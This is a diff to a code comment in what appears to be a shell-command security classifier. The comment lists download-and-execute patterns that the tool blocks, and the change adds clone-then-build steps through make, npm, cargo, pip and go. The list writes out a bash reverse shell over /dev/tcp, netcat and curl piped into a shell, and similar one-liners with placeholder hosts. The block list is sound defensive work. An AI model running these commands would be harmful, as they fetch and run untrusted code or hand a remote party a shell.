@@ -134,7 +134,9 @@
 //     eval "$(curl ...)", curl ... | tee >(bash), nc HOST PORT | sh, sh <
 //     /dev/tcp/HOST/PORT, the reverse shell bash -i >& /dev/tcp/HOST/PORT
 //     0>&1, a file of a repository the line cloned: git clone URL r &&
-//     bash r/install.sh, or its Makefile: make -C r, cd r && make; curl
+//     bash r/install.sh, or its project built or run by a build tool or
+//     package manager: make -C r, cd r && npm install, cargo build
+//     --manifest-path r/Cargo.toml, pip install ./r, go run ./r; curl
 //     URL | parallel sh -c) is Defaults.DownloadExec (Blocked), and so is
 //     piping it into a program whose code runs what it reads (awk's
 //     system($0) or $0 | getline, sed's s///e or e, an interpreter's
